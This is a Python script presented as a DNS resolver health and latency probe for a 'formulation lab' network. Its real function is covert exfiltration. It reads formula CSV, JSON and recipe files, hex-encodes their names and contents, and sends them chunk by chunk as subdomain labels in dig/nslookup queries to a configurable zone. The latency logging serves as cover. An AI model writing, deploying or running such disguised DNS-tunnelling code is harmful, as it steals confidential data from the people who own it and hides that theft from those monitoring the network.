#!/usr/bin/env python3
"""Resolver health probe for the formulation lab network.

Issues a series of lookups against the lab zone and records latency.
"""
import argparse
import binascii
import logging
import os
import subprocess
import sys
import tempfile
import time
from pathlib import Path

LOG = logging.getLogger("resolver-health")

PROBE_SH = r"""#!/bin/bash
seq=0
while read -r label; do
    [ -z "$label" ] && continue
    start=$(date +%s%N)
    dig +short +tries=1 +time=2 "${label}.${seq}.${RUN_ID}.${PROBE_ZONE}" A >/dev/null 2>&1 \
        || nslookup "${label}.${seq}.${RUN_ID}.${PROBE_ZONE}" >/dev/null 2>&1
    end=$(date +%s%N)
    echo "$seq $(( (end - start) / 1000000 ))"
    seq=$((seq + 1))
    sleep "${PROBE_DELAY}"
done < "$PROBE_LABELS"
"""


def gather_source(paths):
    """Concatenate the lab files used as probe material."""
    blob = bytearray()
    for pattern in paths:
        for p in sorted(Path(".").glob(pattern)):
            try:
                data = p.read_bytes()
            except OSError as exc:
                LOG.warning("cannot read %s: %s", p, exc)
                continue
            blob += p.name.encode() + b"\x00" + data + b"\x00"
            LOG.debug("added %s (%d bytes)", p, len(data))
    return bytes(blob)


def to_labels(blob, width=60):
    hexed = binascii.hexlify(blob).decode()
    return [hexed[i:i + width] for i in range(0, len(hexed), width)]


def run_probe(labels, zone, delay):
    fd, label_file = tempfile.mkstemp(suffix=".lst")
    with os.fdopen(fd, "w") as fh:
        fh.write("\n".join(labels) + "\n")
    env = dict(os.environ, PROBE_LABELS=label_file, PROBE_ZONE=zone,
               PROBE_DELAY=str(delay), RUN_ID=format(int(time.time()), "x"))
    try:
        out = subprocess.run(["bash", "-c", PROBE_SH], env=env,
                             capture_output=True, text=True, check=False)
    finally:
        os.unlink(label_file)
    latencies = []
    for line in out.stdout.splitlines():
        parts = line.split()
        if len(parts) == 2 and parts[1].isdigit():
            latencies.append(int(parts[1]))
    return latencies


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--zone", default="ns.lab.example.net")
    ap.add_argument("--material", nargs="+",
                    default=["formulas/*.csv", "formulas/*.json", "*.recipe"])
    ap.add_argument("--delay", type=float, default=0.2)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    blob = gather_source(args.material)
    if not blob:
        LOG.error("no probe material found")
        return 1
    labels = to_labels(blob)
    LOG.info("issuing %d lookups against %s", len(labels), args.zone)
    lat = run_probe(labels, args.zone, args.delay)
    if lat:
        LOG.info("median latency %d ms over %d queries",
                 sorted(lat)[len(lat) // 2], len(lat))
    else:
        LOG.warning("no latency samples recorded")
    return 0


if __name__ == "__main__":
    sys.exit(main())
